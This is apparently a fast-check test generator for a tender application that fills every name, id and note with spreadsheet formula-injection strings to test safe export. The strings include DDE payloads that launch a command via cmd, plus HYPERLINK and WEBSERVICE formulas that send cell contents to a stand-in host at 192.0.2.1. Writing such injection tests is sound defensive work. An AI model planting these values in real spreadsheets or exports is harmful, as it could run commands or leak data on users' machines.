// Texts a vendor or buyer might write that a spreadsheet program would run if they ever stood in a cell as they are, and a tender full of them.
import fc from 'fast-check'
import type { Tender } from '../../shared/tender/tender.ts'

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', "'=", '"=', '\u200b=', '\uFEFF=']
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  'WEBSERVICE("http://192.0.2.1")',
  '1+1',
  'DDE("cmd";"/C calc";"x")',
  '</t></si><si><t>x',
  ']]>',
  '"&CHAR(61)&"',
  'SUM(A1:A9)',
]

/** One hostile text. */
export const hostileText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...starts), fc.constantFrom(...bodies))
  .map(([start, body]) => `${start}${body}`)

/** Fields whose words are ours, and records named by what they are about. */
const ourWords: ReadonlySet<string> = new Set(
  'schema kind unit per mode right type strictness basis domain packageLogic tierMode do status'.split(' '),
)
const namedByIds: ReadonlySet<string> = new Set(['capacityFactor', 'adoptionCost'])

/** The same tender with every name, id and note in it made hostile: one text for one text, so that what refers still refers. */
export function hostileTender(tender: Tender, seed: number): Tender {
  const made = new Map<string, string>()
  const texts = fc.sample(hostileText, { numRuns: 400, seed })
  const hostile = (text: string): string => {
    const known = made.get(text)
    if (known !== undefined) return known
    const next = `${texts[made.size % texts.length]}${made.size}`
    made.set(text, next)
    return next
  }
  const replaced = (part: unknown, key: string): unknown => {
    if (typeof part === 'string') return isOurs(part, key) ? part : hostile(part)
    if (Array.isArray(part)) return part.map((each) => replaced(each, key))
    if (typeof part !== 'object' || part === null) return part
    return Object.fromEntries(
      Object.entries(part).map(([name, each]) => [namedByIds.has(key) ? hostile(name) : name, replaced(each, name)]),
    )
  }
  return replaced(tender, '') as Tender
}

/** Dates, months, currencies and the words of schemas. */
function isOurs(text: string, key: string): boolean {
  return ourWords.has(key) || /^\d{4}-\d\d/.test(text) || /^[A-Z]{3}$/.test(text)
}
